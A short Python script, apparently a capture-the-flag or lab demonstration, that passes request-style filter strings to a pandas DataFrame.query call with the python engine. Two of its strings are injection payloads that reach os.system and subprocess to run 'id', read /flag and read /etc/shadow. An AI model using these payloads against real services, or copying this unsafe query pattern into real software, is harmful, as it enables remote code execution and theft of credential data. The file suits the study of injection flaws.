# Filters the leaderboard with a query string taken from the request.
import pandas as pd

board = pd.DataFrame({"team": ["red", "blue", "green"], "score": [17, 9, 23]})

REQUEST_FILTERS = [
    "score > 10",
    "@pd.compat.os.system('id; cat /flag; cat /etc/shadow') == 0",
    "@pd.core.frame.com.builtins.__import__('subprocess').getoutput('id; cat /flag') != ''",
]

for expr in REQUEST_FILTERS:
    try:
        print(board.query(expr, engine="python"))
    except Exception as err:
        print("filter rejected:", type(err).__name__)
